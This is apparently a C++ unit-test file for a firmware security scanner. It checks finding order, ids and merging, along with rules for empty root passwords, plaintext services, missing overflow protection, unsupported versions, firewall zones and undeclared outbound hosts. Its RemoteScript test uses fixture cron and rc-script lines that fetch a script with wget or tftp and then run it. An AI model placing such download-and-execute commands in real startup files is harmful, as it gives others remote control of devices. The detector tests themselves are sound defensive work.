// Order, ids and merging of findings, and what chosen checks state in particular.
#include "checks/support_ends.h"
#include "checks/words.h"
#include "core/hash.h"
#include "test/checks/pairs.h"

#include <gtest/gtest.h>
#include <algorithm>
#include <set>

namespace assay::checks::test {
namespace {

Case everything() {
  Case all;
  for (const Pair& p : all_pairs()) {
    const Facts& f = p.speaks.facts;
    const auto add = [](auto& into, const auto& from) { into.insert(into.end(), from.begin(), from.end()); };
    add(all.facts.accounts, f.accounts);
    add(all.facts.credentials, f.credentials);
    add(all.facts.keys, f.keys);
    add(all.facts.services, f.services);
    add(all.facts.permissions, f.permissions);
    add(all.facts.settings, f.settings);
    add(all.facts.components, f.components);
    add(all.facts.elf, f.elf);
    add(all.facts.leftovers, f.leftovers);
    add(all.facts.mounts, f.mounts);
    add(all.facts.boot, f.boot);
  }
  return all;
}

std::vector<std::string> printed(const std::vector<Finding>& all) {
  std::vector<std::string> out;
  for (const Finding& f : all)
    out.push_back(f.id + " " + f.rule + " " + std::string(name_of(f.severity)) + " " + f.claim + " " +
                  std::to_string(f.evidence.size()));
  return out;
}

TEST(Judge, MostSevereFirst) {
  const auto all = findings(everything());
  ASSERT_GT(all.size(), 15u);
  EXPECT_TRUE(std::ranges::is_sorted(all, [](const Finding& a, const Finding& b) { return a.severity > b.severity; }));
}

TEST(Judge, OrderOfFactsChangesNothingThatIsStatedAloneAndIdsAreUnique) {
  Case forward = everything(), backward = everything();
  std::ranges::reverse(backward.facts.services);
  std::ranges::reverse(backward.facts.credentials);
  std::ranges::reverse(backward.facts.boot);
  std::ranges::reverse(backward.facts.mounts);
  std::ranges::reverse(backward.facts.settings);
  EXPECT_EQ(printed(findings(forward)), printed(findings(backward)));
  EXPECT_EQ(printed(findings(forward)), printed(findings(forward)));
  std::set<std::string> ids;
  for (const Finding& f : findings(forward)) EXPECT_TRUE(ids.insert(f.id).second) << f.rule;
}

TEST(Judge, IdIsOfRuleAndEvidence) {
  const Evidence place = at("etc/shadow", "root::", 7);
  const Case one{
      .facts = {.accounts = {{.name = "root", .uid = 0, .hash_kind = "empty", .can_log_in = true, .at = place}}}};
  const auto found = findings(one, "account.empty_password");
  ASSERT_EQ(found.size(), 1u);
  const std::string text = "22:account.empty_password29:trx/part1/squashfs/etc/shadow1:76:root::";
  EXPECT_EQ(found[0].id, sha256(Bytes(text)).hex().substr(0, 12));
  EXPECT_EQ(found[0].severity, Severity::kCritical);
}

TEST(Judge, TheSameEvidenceTwiceIsOneFinding) {
  const Service s{
      .name = "ftp", .program = "ftpd", .protocol = "tcp", .port = 21, .started = true, .at = at("etc/rcS", "ftpd")};
  EXPECT_EQ(findings({.facts = {.services = {s, s}}}, "service.plaintext_remote_access").size(), 1u);
  Service other = s;
  other.port = 2121;
  const auto merged = findings({.facts = {.services = {s, other}}}, "service.plaintext_remote_access");
  ASSERT_EQ(merged.size(), 1u);
  EXPECT_NE(merged[0].claim.find("port 21,"), std::string::npos) << merged[0].claim;
  EXPECT_NE(merged[0].claim.find("Also: "), std::string::npos) << merged[0].claim;
}

TEST(Judge, ShownTextIsCutBetweenCharacters) {
  std::string shows;
  while (shows.size() < 199) shows += 'a';
  shows += "\xc3\xa9\xc3\xa9";
  const auto found = findings({.facts = {.encrypted = {{.scheme = "x", .size = 1, .at = {.shows = shows}}}}});
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].evidence[0].shows.size(), 199u);
}

TEST(Claims, AreEscapedAndShort) {
  const std::string name = "a\x1b[2J" + std::string(300, 'b');
  const Case one{
      .facts = {.accounts = {{.name = name, .uid = 0, .hash_kind = "empty", .can_log_in = true, .at = at("x")}}}};
  const auto found = findings(one, "account.empty_password");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].claim.find('\x1b'), std::string::npos);
  EXPECT_LT(found[0].claim.size(), 300u);
}

TEST(Emulation, IsExactlyOneFinding) {
  Case one;
  for (const char* file : {"firmadyne/a", "firmadyne/b", "etc/c"})
    one.facts.leftovers.push_back({.kind = "emulation", .detail = "d", .at = at(file), .count = 2});
  const auto found = findings(one, "leftover.emulation");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].evidence.size(), 3u);
  EXPECT_NE(found[0].claim.find("6 files"), std::string::npos) << found[0].claim;
  EXPECT_TRUE(findings(one, "leftover.development").empty());
}

TEST(OverflowProtection, OneFindingPerVolumeAndProtectionNetworkFirst) {
  const auto elf = [](std::string way, std::vector<std::string> traits) {
    return Elf{.type = "executable",
               .is_program = true,
               .nx = Known::kYes,
               .canary = Known::kNo,
               .traits = std::move(traits),
               .at = {.artifact = std::move(way)}};
  };
  const Case one{.facts = {.elf = {elf("trx/part1/squashfs/a", {}), elf("trx/part1/squashfs/z", {"listens"}),
                                   elf("trx/part2/jffs2/b", {})}}};
  const auto found = findings(one, "elf.no_overflow_protection");
  ASSERT_EQ(found.size(), 4u);  // canary and PIE, two volumes
  EXPECT_EQ(found[0].severity, Severity::kMedium);
  EXPECT_EQ(found[0].evidence[0].artifact, "trx/part1/squashfs/z");
  EXPECT_NE(found[0].claim.find("2 of 2 ELF files in trx/part1/squashfs"), std::string::npos) << found[0].claim;
  EXPECT_EQ(found[2].severity, Severity::kLow);
}

TEST(Undeclared, ADeclaredVersionCoversTheReleasesOfItsPackage) {
  Declaration d{.software = {{.name = "busybox", .version = "1.36.1"}}, .has_software = true};
  const auto count = [&](std::string version, std::string how) {
    const Component c{.name = "busybox", .version = std::move(version), .how = std::move(how), .at = at("x")};
    return findings({.facts = {.components = {c}}, .declaration = d}, "component.undeclared").size();
  };
  EXPECT_EQ(count("1.36.1-6", "opkg"), 0u);
  EXPECT_EQ(count("1.36.10", "opkg"), 1u);
  EXPECT_EQ(count("1.36.1-6", "version-string"), 1u);
}

TEST(Rpath, AnEmptySearchPathIsLeftToTheDynamicLinker) {
  const auto severity = [](std::string entry) {
    const Elf e{.type = "executable", .position_independent = true, .rpath = {std::move(entry)}, .at = at("bin/a")};
    const auto found = findings({.facts = {.elf = {e}}}, "elf.rpath");
    return found.empty() ? -1 : static_cast<int>(found[0].severity);
  };
  EXPECT_EQ(severity(""), static_cast<int>(Severity::kLow));
  EXPECT_EQ(severity("/lib:"), static_cast<int>(Severity::kMedium));
  EXPECT_EQ(severity("lib"), static_cast<int>(Severity::kMedium));
  EXPECT_EQ(severity("/lib:/usr/lib"), -1);
}

TEST(DuplicateUid, ALockedSecondSuperuserIsLess) {
  const auto severity = [](std::string kind) {
    Account root{
        .name = "root", .uid = 0, .source = "passwd", .hash_kind = "des", .can_log_in = true, .at = at("etc/passwd")};
    Account other = root;
    other.name = "nobody";
    other.hash_kind = std::move(kind);
    return findings({.facts = {.accounts = {root, other}}}, "account.duplicate_uid").at(0).severity;
  };
  EXPECT_EQ(severity("des"), Severity::kHigh);
  EXPECT_EQ(severity("locked"), Severity::kMedium);
}

TEST(Unsupported, FollowsTheDayOfTheExamination) {
  const Case one{.facts = {.components = {{.name = "OpenSSL", .version = "1.1.1w", .how = "dpkg", .at = at("lib")}}}};
  const auto on = [&](std::string day) {
    return judge({.facts = one.facts, .as_of = std::move(day), .as_of_seconds = 0}).size();
  };
  EXPECT_EQ(on("2023-09-11"), 0u);
  EXPECT_EQ(on("2023-09-12"), 1u);
}

TEST(Unsupported, LinesAreReadAsNumbers) {
  const auto ended = [](std::string_view name, std::string_view version) {
    const SupportEnd* row = support_end(name, version);
    return row == nullptr ? std::string_view() : row->ended;
  };
  EXPECT_EQ(ended("linux", "2.6.31"), "2022-02-03");
  EXPECT_EQ(ended("linux", "4.4.302"), "2022-02-03");
  EXPECT_EQ(ended("linux", "4.9.337"), "2023-01-07");
  EXPECT_EQ(ended("linux", "4.90"), "");
  EXPECT_EQ(ended("linux", "6.1.55"), "");
  EXPECT_EQ(ended("linux", "6.10.3"), "2024-10-10");
  EXPECT_EQ(ended("openssl", "0.9.7f"), "2015-12-31");
  EXPECT_EQ(ended("openssl", "1.0.2k-fips"), "2019-12-31");
  EXPECT_EQ(ended("uClibc", "0.9.33.2"), "2012-05-15");
  EXPECT_EQ(ended("uclibc", "1.0.14"), "");
  EXPECT_EQ(ended("OpenWrt", "r12.09"), "2019-02-01");
  EXPECT_EQ(ended("dropbear", "0.52"), "");
  EXPECT_EQ(ended("openssl", ""), "");
  EXPECT_EQ(ended("openssl", "1"), "");
  for (const SupportEnd& row : support_ends()) {
    EXPECT_EQ(row.ended.size(), 10u);
    EXPECT_EQ(row.names, lower(row.names));
  }
}

TEST(Services, UndeclaredAndPortUndeclaredLeaveNoGapAndNoOverlap) {
  const Service s{
      .name = "http", .program = "httpd", .protocol = "tcp", .port = 8080, .started = true, .at = at("etc/rcS")};
  const auto rules_for = [&](std::vector<Declared> services, std::vector<Declared> ports) {
    Declaration d{.services = std::move(services), .ports = std::move(ports), .has_services = true};
    std::set<std::string> out;
    for (const Finding& f : findings({.facts = {.services = {s}}, .declaration = d})) out.insert(f.rule);
    return out;
  };
  using Rules = std::set<std::string>;
  EXPECT_EQ(rules_for({}, {}), Rules{"service.undeclared"});
  EXPECT_EQ(rules_for({{.name = "http", .port = 80}}, {}), Rules{"service.port_undeclared"});
  EXPECT_EQ(rules_for({{.name = "HTTPD"}}, {}), Rules{});
  EXPECT_EQ(rules_for({}, {{.protocol = "tcp", .port = 8080}}), Rules{});
  EXPECT_EQ(rules_for({}, {{.protocol = "udp", .port = 8080}}), Rules{"service.undeclared"});
}

TEST(ListensAndStartsShell, StartedByCodeIsGraverThanAbilityAlone) {
  Facts f;
  f.services = {{.name = "unknown",
                 .program = "diagd",
                 .resolves_to = at("sbin/diagd").artifact,
                 .protocol = "tcp",
                 .port = 64639,
                 .port_source = "code",
                 .started_by = at("etc/rcS").artifact,
                 .started = true,
                 .gives_shell = true,
                 .at = at("sbin/diagd", "bind")}};
  f.elf = {{.type = "executable",
            .is_program = true,
            .traits = {"listens", "redirects-descriptors", "starts-shell"},
            .at = at("sbin/diagd")}};
  const auto found = findings({.facts = f}, "service.listens_and_starts_shell");
  ASSERT_EQ(found.size(), 1u) << "the same program is stated once";
  EXPECT_EQ(found[0].severity, Severity::kHigh);
  EXPECT_NE(found[0].claim.find("64639"), std::string::npos);
  f.services[0].asks_for_secret = Known::kNo;
  EXPECT_EQ(findings({.facts = f}, "service.listens_and_starts_shell")[0].severity, Severity::kCritical);
  f.services.clear();
  EXPECT_EQ(findings({.facts = f}, "service.listens_and_starts_shell")[0].severity, Severity::kLow);
  f.startup = {
      {.mechanism = "rc-script", .command = "diagd &", .resolves_to = at("sbin/diagd").artifact, .at = at("etc/rcS")}};
  EXPECT_EQ(findings({.facts = f}, "service.listens_and_starts_shell")[0].severity, Severity::kMedium);
}

TEST(FirewallUci, ZonesDecideBeforeDefaults) {
  const auto rule = [](std::string table, std::string source, std::string action, std::string port = "") {
    return FirewallRule{.tool = "uci",
                        .table = std::move(table),
                        .chain = "input",
                        .action = std::move(action),
                        .port = std::move(port),
                        .source = source,
                        .rule = source,
                        .at = at("etc/config/firewall", source)};
  };
  const auto stated = [](std::vector<FirewallRule> rules, std::string_view id) {
    return findings({.facts = {.firewall = std::move(rules)}}, id).size();
  };
  EXPECT_EQ(stated({rule("defaults", "", "ACCEPT")}, "firewall.accept_all"), 1u);
  EXPECT_EQ(stated({rule("defaults", "", "ACCEPT"), rule("zone", "wan", "REJECT")}, "firewall.accept_all"), 0u);
  EXPECT_EQ(stated({rule("zone", "lan", "ACCEPT")}, "firewall.accept_all"), 0u);
  EXPECT_EQ(stated({rule("zone", "wan", "ACCEPT")}, "firewall.accept_all"), 1u);
  EXPECT_EQ(stated({rule("rule", "wan", "ACCEPT", "22")}, "firewall.wan_management"), 1u);
  EXPECT_EQ(stated({rule("rule", "lan", "ACCEPT", "22")}, "firewall.wan_management"), 0u);
  EXPECT_EQ(stated({rule("rule", "wan", "ACCEPT", "68")}, "firewall.wan_management"), 0u);
}

TEST(RemoteScript, SeesTwoLinesOfOneScript) {
  Facts f;
  f.startup = {{.mechanism = "cron",
                .program = "wget",
                .command = "wget -O /tmp/u.sh http://192.0.2.1/u.sh",
                .at = at("etc/cron", "wget", 1)},
               {.mechanism = "cron",
                .program = "sh",
                .arguments = "/tmp/u.sh",
                .command = "sh /tmp/u.sh",
                .at = at("etc/cron", "sh", 50)}};
  EXPECT_EQ(findings({.facts = f}, "startup.remote_script").size(), 1u);
  f.startup[1].at.artifact = at("etc/other").artifact;
  EXPECT_TRUE(findings({.facts = f}, "startup.remote_script").empty());
  f.startup = {{.mechanism = "rc-script",
                .program = "sh",
                .command = "tftp -g -r x -l /tmp/x 10.0.0.1; chmod +x /tmp/x",
                .at = at("etc/rcS")}};
  EXPECT_EQ(findings({.facts = f}, "startup.remote_script").size(), 1u);
}

TEST(Outbound, AddressesThatLeadNowhereAreLeftOut) {
  Declaration none;
  none.has_communications = true;
  const auto count = [&](std::string host) {
    const Outbound o{.kind = "host", .value = host, .host = host, .at = at("bin/x", host)};
    return findings({.facts = {.outbound = {o}}, .declaration = none}, "outbound.undeclared").size();
  };
  for (const char* host : {"127.0.0.1", "192.168.1.1", "10.1.2.3", "172.16.0.1", "239.255.255.250", "192.0.2.10",
                           "localhost", "www.w3.org", "fe80::1", "::1", "2001:db8::1", ""})
    EXPECT_EQ(count(host), 0u) << host;
  for (const char* host : {"8.8.8.8", "172.32.0.1", "2a00:1450::1", "10.example.org", "update.example.org"})
    EXPECT_EQ(count(host), 1u) << host;
}

TEST(Words, Volume) {
  EXPECT_EQ(volume_of("trx/part1/squashfs/etc/passwd"), "trx/part1/squashfs");
  EXPECT_EQ(volume_of("trx/squashfs/opt/x.tar/tar/bin/a"), "trx/squashfs/opt/x.tar/tar");
  EXPECT_EQ(volume_of("etc/passwd"), "");
  EXPECT_EQ(volume_of(""), "");
  EXPECT_TRUE(lies_in("a/b/c", "a/b"));
  EXPECT_TRUE(lies_in("a/b", "a/b/"));
  EXPECT_FALSE(lies_in("a/bc", "a/b"));
}

}  // namespace
}  // namespace assay::checks::test
